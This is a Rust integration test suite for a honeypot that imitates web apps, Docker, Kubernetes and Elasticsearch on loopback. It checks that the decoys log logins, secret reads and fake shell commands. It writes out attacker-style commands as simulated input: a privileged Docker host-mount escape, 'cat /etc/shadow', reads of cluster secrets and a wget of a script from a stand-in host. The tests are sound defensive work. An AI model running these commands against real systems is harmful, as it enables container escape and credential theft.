//! The HTTP family against real clients: curl, the Docker CLI and nmap, each pointed at the
//! real `decnet-decky serve <slug>` on loopback. The clients are required (`.ci/run` installs
//! curl and nmap; the Docker CLI comes with the daemon the deployer tests need).

mod common;

use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use common::*;
use serde_json::Value;

/// Runs `prog args…` to completion (at most `limit`); returns (exit code, stdout + stderr).
fn run(prog: &str, args: &[&str], envs: &[(&str, &str)], limit: Duration) -> (Option<i32>, String) {
    let mut cmd = Command::new(prog);
    cmd.args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in envs {
        cmd.env(k, v);
    }
    let mut child = cmd
        .spawn()
        .unwrap_or_else(|e| panic!("{prog} is needed by these tests: {e}"));
    let deadline = Instant::now() + limit;
    while child.try_wait().expect("try_wait").is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            break;
        }
        thread::sleep(Duration::from_millis(50));
    }
    let out = child.wait_with_output().expect("output");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code(), text)
}

fn curl(args: &[&str]) -> String {
    let mut all = vec!["-s", "-S", "--max-time", "10", "-A", "it-curl/1.0"];
    all.extend_from_slice(args);
    let (code, out) = run("curl", &all, &[], Duration::from_secs(15));
    assert_eq!(code, Some(0), "curl {args:?}: {out}");
    out
}

fn url(d: &Decky, path: &str) -> String {
    format!("http://127.0.0.1:{}{path}", d.port)
}

/// The next event of `kind` (skipping others); fails after the decky's event wait.
fn next_of(d: &Decky, kind: &str) -> Value {
    loop {
        let ev = d.next_event();
        if ev["kind"] == kind {
            return ev;
        }
    }
}

/// The next event whose `details.action` is `action`.
fn next_action(d: &Decky, action: &str) -> Value {
    loop {
        let ev = d.next_event();
        if ev["details"]["action"] == action {
            return ev;
        }
    }
}

fn assert_auth(ev: &Value, user: &str, pass: &str, method: &str) {
    assert_eq!(ev["kind"], "auth", "{ev}");
    assert_eq!(ev["details"]["username"], user, "{ev}");
    assert_eq!(ev["details"]["password"], pass, "{ev}");
    assert_eq!(ev["details"]["method"], method, "{ev}");
}

#[test]
fn curl_logins_on_web_personas_are_recorded() {
    let d = Decky::serve("http", Some(r#"{"fake_app":"wordpress"}"#));
    let page = curl(&[
        "-i",
        "-d",
        "log=admin&pwd=Winter2026!&wp-submit=Log+In",
        &url(&d, "/wp-login.php"),
    ]);
    assert!(page.contains("Server: Apache/2.4.41 (Ubuntu)"), "{page}");
    assert!(page.contains("X-Powered-By: PHP/7.4.3"), "{page}");
    assert!(page.contains("is incorrect."), "{page}");
    let req = next_of(&d, "request");
    assert_eq!(req["details"]["http_method"], "POST");
    assert_eq!(req["details"]["path"], "/wp-login.php");
    assert_eq!(req["details"]["user_agent"], "it-curl/1.0");
    assert_auth(&next_of(&d, "auth"), "admin", "Winter2026!", "form");
    let nf = curl(&["-i", &url(&d, "/backup.zip")]);
    assert!(nf.starts_with("HTTP/1.1 404 Not Found"), "{nf}");
    assert!(nf.contains("Page not found &#8211; decoy-host"), "{nf}");
    drop(d);

    let d = Decky::serve("http", Some(r#"{"fake_app":"phpmyadmin"}"#));
    let page = curl(&[
        "-d",
        "pma_username=root&pma_password=toor&server=1",
        &url(&d, "/index.php"),
    ]);
    assert!(
        page.contains("Access denied for user 'root'@'localhost'"),
        "{page}"
    );
    assert_auth(&next_of(&d, "auth"), "root", "toor", "form");
    drop(d);

    let d = Decky::serve("http", Some(r#"{"fake_app":"owa"}"#));
    let page = curl(&["-i", &url(&d, "/owa/auth/logon.aspx")]);
    assert!(page.contains("<title>Outlook</title>"), "{page}");
    let head = curl(&[
        "-i",
        "-d",
        "destination=x&flags=4&username=CORP%5Cceo&password=Pa%24%24w0rd",
        &url(&d, "/owa/auth.owa"),
    ]);
    assert!(head.starts_with("HTTP/1.1 302 Found"), "{head}");
    assert!(head.contains("reason=2"), "{head}");
    assert_auth(&next_of(&d, "auth"), "CORP\\ceo", "Pa$$w0rd", "form");
    drop(d);
}

#[test]
fn curl_basic_auth_on_tomcat_and_router_is_recorded() {
    let d = Decky::serve("http", Some(r#"{"fake_app":"tomcat"}"#));
    let page = curl(&["-i", "-u", "tomcat:s3cret", &url(&d, "/manager/html")]);
    assert!(page.starts_with("HTTP/1.1 401 \r\n"), "{page}");
    assert!(
        page.contains("Basic realm=\"Tomcat Manager Application\""),
        "{page}"
    );
    assert_auth(&next_of(&d, "auth"), "tomcat", "s3cret", "basic");
    let nf = curl(&[&url(&d, "/struts2-showcase/")]);
    assert!(nf.contains("HTTP Status 404 – Not Found"), "{nf}");
    drop(d);

    let d = Decky::serve("http", Some(r#"{"fake_app":"router"}"#));
    let page = curl(&["-i", "-u", "admin:1234", &url(&d, "/")]);
    assert!(page.contains("Server: mini_httpd/1.19 19dec2003"), "{page}");
    assert_auth(&next_of(&d, "auth"), "admin", "1234", "basic");
    drop(d);
}

#[test]
fn docker_cli_run_is_recorded_as_a_container_create() {
    let d = Decky::serve("docker_api", None);
    let host = format!("tcp://127.0.0.1:{}", d.port);
    let cfg = std::env::temp_dir().join(format!("http13-docker-cfg-{}", std::process::id()));
    std::fs::create_dir_all(&cfg).expect("docker config dir");
    let cfg_s = cfg.to_string_lossy().into_owned();
    let envs = [
        ("DOCKER_CONFIG", cfg_s.as_str()),
        ("DOCKER_HOST", host.as_str()),
    ];
    let (code, out) = run(
        "docker",
        &["version", "--format", "{{.Server.Version}}"],
        &envs,
        Duration::from_secs(20),
    );
    eprintln!("docker version → {code:?}: {out}");
    assert!(out.contains("20.10.24"), "{out}");
    let (code, out) = run(
        "docker",
        &[
            "run",
            "--privileged",
            "-v",
            "/:/host",
            "alpine",
            "sh",
            "-c",
            "chroot /host id",
        ],
        &envs,
        Duration::from_secs(20),
    );
    // The CLI fails once it tries to attach; that is expected.
    eprintln!("docker run → {code:?}: {out}");
    let ev = next_action(&d, "container_create");
    assert_eq!(ev["kind"], "exec", "{ev}");
    let det = &ev["details"];
    assert_eq!(det["image"], "alpine", "{ev}");
    assert_eq!(
        det["cmd"],
        serde_json::json!(["sh", "-c", "chroot /host id"]),
        "{ev}"
    );
    assert_eq!(det["binds"], serde_json::json!(["/:/host"]), "{ev}");
    assert_eq!(det["privileged"], true, "{ev}");
    // `docker ps` lists the bait containers; `docker exec` into one is recorded.
    let (_, out) = run("docker", &["ps"], &envs, Duration::from_secs(20));
    assert!(out.contains("nginx:1.25") && out.contains(" web"), "{out}");
    let (code, out) = run(
        "docker",
        &["exec", "web", "cat", "/etc/shadow"],
        &envs,
        Duration::from_secs(20),
    );
    eprintln!("docker exec → {code:?}: {out}");
    let ev = next_action(&d, "exec_create");
    assert_eq!(ev["details"]["command"], "cat /etc/shadow", "{ev}");
    assert_eq!(ev["details"]["container"], "web", "{ev}");
    let _ = std::fs::remove_dir_all(&cfg);
}

#[test]
fn curl_against_k8s_and_elasticsearch_shapes() {
    let d = Decky::serve("k8s", None);
    let body = curl(&[&url(&d, "/api/v1/namespaces/kube-system/secrets")]);
    let v: Value = serde_json::from_str(&body).expect("json");
    assert_eq!(v["kind"], "SecretList", "{body}");
    let ev = next_action(&d, "secrets_read");
    assert_eq!(ev["details"]["namespace"], "kube-system");
    // Bait: the bootstrap token and the cluster-admin service-account token, base64 as the
    // API serves them, and the event names what was handed out.
    let names: Vec<&str> = v["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|i| i["metadata"]["name"].as_str())
        .collect();
    assert!(names.contains(&"cluster-admin-token"), "{body}");
    assert!(
        names.iter().any(|n| n.starts_with("bootstrap-token-")),
        "{body}"
    );
    assert_eq!(ev["details"]["bait"], serde_json::json!(names), "{ev}");
    let body = curl(&[&url(
        &d,
        "/api/v1/namespaces/default/secrets/aws-credentials",
    )]);
    let secret: Value = serde_json::from_str(&body).expect("json");
    assert_eq!(secret["kind"], "Secret", "{body}");
    let key = secret["data"]["AWS_ACCESS_KEY_ID"].as_str().expect("key");
    let (code, decoded) = run(
        "sh",
        &["-c", &format!("printf %s '{key}' | base64 -d")],
        &[],
        Duration::from_secs(5),
    );
    assert_eq!(code, Some(0));
    assert!(
        decoded.starts_with("AKIA") && decoded.len() == 20,
        "{decoded}"
    );
    let ev = next_action(&d, "secrets_read");
    assert_eq!(ev["details"]["secret"], "aws-credentials", "{ev}");
    assert_eq!(
        ev["details"]["bait"],
        serde_json::json!(["aws-credentials"]),
        "{ev}"
    );
    let nf = curl(&[&url(&d, "/api/v1/namespaces/default/secrets/nope")]);
    let nf: Value = serde_json::from_str(&nf).expect("json");
    assert_eq!(nf["message"], "secrets \"nope\" not found", "{nf}");
    assert_eq!(nf["code"], 404, "{nf}");
    // The same port over TLS is the secure port: anonymous is forbidden, and the ClientHello
    // is fingerprinted.
    let body = curl(&["-k", &format!("https://127.0.0.1:{}/api", d.port)]);
    let v: Value = serde_json::from_str(&body).expect("json");
    assert_eq!(v["kind"], "Status", "{body}");
    assert_eq!(v["code"], 403, "{body}");
    let client = next_of(&d, "client");
    let tls = curl(&[
        "-v",
        "-k",
        "-o",
        "/dev/null",
        &format!("https://127.0.0.1:{}/version", d.port),
    ]);
    assert!(tls.contains("subject: CN=kube-apiserver"), "{tls}");
    assert!(tls.contains("issuer: CN=kubernetes"), "{tls}");
    assert!(
        client["details"]["ja4"]
            .as_str()
            .is_some_and(|j| j.starts_with("t1")),
        "{client}"
    );
    drop(d);

    let d = Decky::serve("elasticsearch", Some(r#"{"cluster_name":"prod-logs"}"#));
    let v: Value = serde_json::from_str(&curl(&[&url(&d, "/")])).expect("json");
    assert_eq!(v["cluster_name"], "prod-logs");
    assert_eq!(v["tagline"], "You Know, for Search");
    let cat = curl(&[&url(&d, "/_cat/indices?v")]);
    assert!(cat.starts_with("health status index"), "{cat}");
    let ev = next_action(&d, "indices_list");
    assert_eq!(ev["details"]["indices"][2], "users", "{ev}");
    let found: Value = serde_json::from_str(&curl(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"query":{"match":{"role":"superuser"}},"size":5}"#,
        &url(&d, "/users/_search"),
    ]))
    .expect("json");
    let hit = &found["hits"]["hits"][0]["_source"];
    assert_eq!(hit["username"], "admin", "{found}");
    assert_eq!(hit["email"], "admin@decoy-host.internal", "{found}");
    assert!(
        hit["api_key"]
            .as_str()
            .is_some_and(|k| k.starts_with("sk_live_") && k.len() == 40),
        "{found}"
    );
    let ev = next_action(&d, "index_search");
    assert_eq!(ev["details"]["index"], "users", "{ev}");
    assert_eq!(ev["details"]["hits"], 3, "{ev}");
    assert!(
        ev["details"]["query"]
            .as_str()
            .is_some_and(|q| q.contains("superuser")),
        "{ev}"
    );
    let del = curl(&["-X", "DELETE", &url(&d, "/customers")]);
    assert!(del.contains("\"acknowledged\":true"), "{del}");
    let ev = next_action(&d, "index_delete");
    assert_eq!(ev["details"]["index"], "customers");
    drop(d);
}

fn nmap(port: u16, scripts: bool) -> String {
    let port = port.to_string();
    let mut args = vec!["-sV", "-Pn", "-n", "-p", &port];
    if scripts {
        args.extend_from_slice(&["--script", "http-title,http-server-header"]);
    }
    args.push("127.0.0.1");
    let (code, out) = run("nmap", &args, &[], Duration::from_secs(150));
    eprintln!("nmap {args:?} → {code:?}\n{out}");
    assert_eq!(code, Some(0), "{out}");
    out
}

#[test]
fn nmap_names_docker_and_elasticsearch() {
    let d = Decky::serve("docker_api", None);
    let out = nmap(d.port, false);
    assert!(out.contains("Docker 20.10.24 (API 1.41)"), "{out}");
    drop(d);
    let d = Decky::serve("elasticsearch", Some(r#"{"cluster_name":"prod-logs"}"#));
    let out = nmap(d.port, false);
    assert!(
        out.contains(
            "Elasticsearch REST API 7.10.2 (name: decoy-host; cluster: prod-logs; Lucene 8.7.0)"
        ),
        "{out}"
    );
    drop(d);
}

#[test]
fn nmap_names_the_web_product() {
    let d = Decky::serve("http", Some(r#"{"fake_app":"wordpress"}"#));
    let port = d.port.to_string();
    let (code, out) = run(
        "nmap",
        &[
            "-sV",
            "-Pn",
            "-n",
            "-p",
            &port,
            "--script",
            "http-title,http-server-header",
            "127.0.0.1",
        ],
        &[],
        Duration::from_secs(120),
    );
    eprintln!("nmap → {code:?}\n{out}");
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("Apache httpd 2.4.41"), "{out}");
    assert!(
        out.contains("http-server-header: Apache/2.4.41 (Ubuntu)"),
        "{out}"
    );
    assert!(
        out.contains("http-title: decoy-host &#8211; Just another WordPress site")
            || out.contains("http-title: decoy-host \u{2013} Just another WordPress site"),
        "{out}"
    );
    drop(d);
}

/// A network namespace of this test (loopback up), removed on drop.
struct Netns(String);

impl Netns {
    fn new(tag: &str) -> Netns {
        let name = format!("http13-{tag}-{}", std::process::id());
        let (code, out) = run("ip", &["netns", "add", &name], &[], Duration::from_secs(10));
        assert_eq!(code, Some(0), "ip netns add (the tests run as root): {out}");
        let ns = Netns(name);
        let (code, out) = run(
            "ip",
            &["-n", &ns.0, "link", "set", "lo", "up"],
            &[],
            Duration::from_secs(10),
        );
        assert_eq!(code, Some(0), "{out}");
        ns
    }

    /// `decnet-decky serve <slug>` on the product's real ports inside the namespace, ready.
    fn serve(&self, slug: &str, ports: &[u16], config: Option<&str>) -> std::process::Child {
        let specs: Vec<String> = ports.iter().map(|p| format!("{p}/tcp")).collect();
        let mut args = vec![
            "netns",
            "exec",
            &self.0,
            BIN,
            "serve",
            slug,
            "--bind",
            "127.0.0.1",
        ];
        for s in &specs {
            args.extend_from_slice(&["--port", s]);
        }
        let mut cmd = Command::new("ip");
        cmd.args(&args)
            .env("HOSTNAME", HOST)
            .env("DECNET_DECKY", DECKY)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        match config {
            Some(c) => cmd.env("DECNET_SERVICE_CONFIG", c),
            None => cmd.env_remove("DECNET_SERVICE_CONFIG"),
        };
        let mut child = cmd.spawn().expect("spawn decky in netns");
        let stderr = child.stderr.take().expect("stderr");
        let (tx, rx) = std::sync::mpsc::channel();
        thread::spawn(move || {
            use std::io::BufRead;
            for line in std::io::BufReader::new(stderr).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let line = rx.recv_timeout(WAIT).expect("start-up line");
        assert!(line.contains("serving"), "{line}");
        child
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = run(
            "ip",
            &["netns", "del", &self.0],
            &[],
            Duration::from_secs(10),
        );
    }
}

#[test]
fn nmap_from_a_namespace_names_the_real_ports() {
    let ns = Netns::new("nmap");
    let mut docker = ns.serve("docker_api", &[2375, 2376], None);
    let mut es = ns.serve("elasticsearch", &[9200], None);
    let mut web = ns.serve("http", &[80], Some(r#"{"fake_app":"wordpress"}"#));
    let mut tomcat = ns.serve("http", &[8080], Some(r#"{"fake_app":"tomcat"}"#));
    let (code, out) = run(
        "ip",
        &[
            "netns",
            "exec",
            &ns.0,
            "nmap",
            "-sV",
            "-Pn",
            "-n",
            "-p",
            "80,2375,2376,8080,9200",
            "127.0.0.1",
        ],
        &[],
        Duration::from_secs(200),
    );
    eprintln!("nmap in {} → {code:?}\n{out}", ns.0);
    for c in [&mut docker, &mut es, &mut web, &mut tomcat] {
        let _ = c.kill();
        let _ = c.wait();
    }
    assert_eq!(code, Some(0), "{out}");
    let line = |port: &str| {
        out.lines()
            .find(|l| l.starts_with(&format!("{port}/tcp")))
            .unwrap_or_default()
            .to_owned()
    };
    // Plain HTTP on 2375 (a ClientHello there is a plain 400), TLS on 2376.
    let l = line("2375");
    assert!(
        l.contains(" docker ") && l.contains("Docker 20.10.24 (API 1.41)"),
        "{l}"
    );
    assert!(!l.contains("ssl/"), "{l}");
    let l = line("2376");
    assert!(
        l.contains("ssl/docker") && l.contains("Docker 20.10.24"),
        "{l}"
    );
    let l = line("80");
    assert!(
        l.contains(" http ") && l.contains("Apache httpd 2.4.41"),
        "{l}"
    );
    // Tomcat sends no Server header: nmap knows it by its streamed default page.
    let l = line("8080");
    assert!(
        l.contains(" http ") && l.contains("Apache Tomcat 9.0.65"),
        "{l}"
    );
    let l = line("9200");
    assert!(
        l.contains(" http ") && l.contains("Elasticsearch REST API 7.10.2"),
        "{l}"
    );
    assert!(!l.contains("ssl/"), "{l}");
}

/// `docker exec -i` with stdin from a pipe: the CLI hijacks `/exec/{id}/start` (`Upgrade:
/// tcp`, 101) and the fake shell behind it runs each line, recorded as `command` events.
#[test]
fn docker_exec_gets_a_fake_shell_whose_commands_are_recorded() {
    use std::io::Write as _;
    let d = Decky::serve("docker_api", None);
    let host = format!("tcp://127.0.0.1:{}", d.port);
    let cfg = std::env::temp_dir().join(format!("http13-docker-exec-{}", std::process::id()));
    std::fs::create_dir_all(&cfg).expect("docker config dir");
    let mut child = Command::new("timeout")
        .args(["30", "docker", "-H", &host, "exec", "-i", "web", "sh"])
        .env("DOCKER_CONFIG", &cfg)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("docker CLI (it comes with the daemon the deployer tests need)");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(b"id\nuname -a\ncat /etc/hostname\nexit\n")
        .expect("write stdin");
    let out = child.wait_with_output().expect("docker exec");
    let text = String::from_utf8_lossy(&out.stdout);
    eprintln!(
        "docker exec -i → {:?}\n{text}{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("uid=0(root) gid=0(root) groups=0(root)"),
        "{text}"
    );
    assert!(text.contains("Linux "), "{text}");
    let ev = next_action(&d, "exec_create");
    assert_eq!(ev["details"]["command"], "sh", "{ev}");
    let start = next_action(&d, "exec_start");
    assert_eq!(start["details"]["tty"], false, "{start}");
    let cmds: Vec<Value> = (0..4)
        .map(|_| next_of(&d, "command")["details"]["command"].clone())
        .collect();
    assert_eq!(
        cmds,
        ["id", "uname -a", "cat /etc/hostname", "exit"].map(Value::from),
        "the typed commands, in order"
    );
    // The container's host name is its short id, as `docker ps` shows it.
    let (_, ps) = run(
        "docker",
        &["-H", &host, "ps", "--format", "{{.ID}} {{.Names}}"],
        &[("DOCKER_CONFIG", &cfg.to_string_lossy())],
        Duration::from_secs(20),
    );
    let web_id = ps
        .lines()
        .find_map(|l| l.strip_suffix(" web"))
        .unwrap_or_default()
        .to_owned();
    assert!(!web_id.is_empty() && text.contains(&web_id), "{ps}\n{text}");
    let _ = std::fs::remove_dir_all(&cfg);
}

/// `docker exec -it ID sh` and `docker run -it` under a pseudo-terminal (expect): a prompt,
/// the typed line echoed and run, `exit` ends the session with status 0.
#[test]
fn docker_exec_and_run_with_a_tty_under_expect() {
    let d = Decky::serve("docker_api", None);
    let cfg = std::env::temp_dir().join(format!("http13-docker-tty-{}", std::process::id()));
    std::fs::create_dir_all(&cfg).expect("docker config dir");
    let script = format!(
        r##"set timeout 20
set env(DOCKER_CONFIG) "{cfg}"
spawn docker -H tcp://127.0.0.1:{port} exec -it web sh
expect "# "
send "id\r"
expect "uid=0(root)"
expect "# "
send "wget http://203.0.113.9/x.sh\r"
expect "# "
send "exit\r"
expect eof
catch wait r
puts "EXEC_STATUS=[lindex $r 3]"
spawn docker -H tcp://127.0.0.1:{port} run -it --rm alpine /bin/bash
expect -re "root@\[0-9a-f\]{{12}}:/# "
send "whoami\r"
expect "# "
send "exit\r"
expect eof
catch wait r
puts "RUN_STATUS=[lindex $r 3]"
"##,
        cfg = cfg.display(),
        port = d.port
    );
    let mut cmd = tool_with_timeout("expect", "expect", 90);
    let out = cmd.args(["-c", &script]).output().expect("expect");
    let text = String::from_utf8_lossy(&out.stdout);
    eprintln!("{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("EXEC_STATUS=0"), "{text}");
    assert!(text.contains("RUN_STATUS=0"), "{text}");
    let start = next_action(&d, "exec_start");
    assert_eq!(start["details"]["tty"], true, "{start}");
    assert_eq!(next_of(&d, "command")["details"]["command"], "id");
    assert_eq!(
        next_of(&d, "command")["details"]["command"],
        "wget http://203.0.113.9/x.sh"
    );
    let ev = next_action(&d, "container_create");
    assert_eq!(ev["details"]["image"], "alpine", "{ev}");
    next_action(&d, "container_attach");
    loop {
        let c = next_of(&d, "command");
        if c["details"]["command"] == "whoami" {
            break;
        }
    }
    let _ = std::fs::remove_dir_all(&cfg);
}

/// kubectl against the insecure port: discovery maps `secrets` to its path, the bait secrets
/// list across namespaces, one is read and decoded, and each read is a `secrets_read` event.
#[test]
fn kubectl_reads_the_bait_secrets() {
    let d = Decky::serve("k8s", None);
    let dir = std::env::temp_dir().join(format!("http13-kubectl-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("kubeconfig dir");
    let cfg = dir.join("config");
    std::fs::write(
        &cfg,
        format!(
            "apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{server: \"http://127.0.0.1:{}\"}}}}]\n\
             contexts: [{{name: c, context: {{cluster: c, user: u}}}}]\nusers: [{{name: u, user: {{}}}}]\ncurrent-context: c\n",
            d.port
        ),
    )
    .expect("kubeconfig");
    let cfg = cfg.to_string_lossy().into_owned();
    let home = dir.to_string_lossy().into_owned();
    let kubectl = |args: &[&str]| {
        let mut all = vec!["--kubeconfig", cfg.as_str()];
        all.extend_from_slice(args);
        let mut cmd = tool_with_timeout("kubectl", "kubernetes-client", 30);
        let out = cmd.args(&all).env("HOME", &home).output().expect("kubectl");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        eprintln!(
            "kubectl {args:?} → {:?}\n{text}{}",
            out.status.code(),
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(0), "kubectl {args:?}");
        text
    };
    // The server-side table kubectl asks for: NAME, TYPE, DATA, AGE.
    let list = kubectl(&["get", "secrets", "-A"]);
    let header = list.lines().next().unwrap_or_default();
    let cols: Vec<&str> = header.split_whitespace().collect();
    assert_eq!(cols, ["NAMESPACE", "NAME", "TYPE", "DATA", "AGE"], "{list}");
    let row = list
        .lines()
        .find(|l| l.contains("cluster-admin-token"))
        .unwrap_or_default();
    assert!(
        row.starts_with("kube-system") && row.contains("kubernetes.io/service-account-token"),
        "{list}"
    );
    assert!(list.contains("aws-credentials"), "{list}");
    let ev = next_action(&d, "secrets_read");
    assert!(
        ev["details"]["bait"]
            .as_array()
            .is_some_and(|b| b.iter().any(|n| n == "default/aws-credentials")),
        "{ev}"
    );
    let key = kubectl(&[
        "-n",
        "default",
        "get",
        "secret",
        "db-credentials",
        "-o",
        "jsonpath={.data.DATABASE_URL}",
    ]);
    let (_, url) = run(
        "sh",
        &["-c", &format!("printf %s '{}' | base64 -d", key.trim())],
        &[],
        Duration::from_secs(5),
    );
    assert!(
        url.starts_with("postgresql://app:")
            && url.ends_with("@postgres.default.svc.cluster.local:5432/app"),
        "{url}"
    );
    let ev = next_action(&d, "secrets_read");
    assert_eq!(ev["details"]["secret"], "db-credentials", "{ev}");
    let _ = std::fs::remove_dir_all(&dir);
}
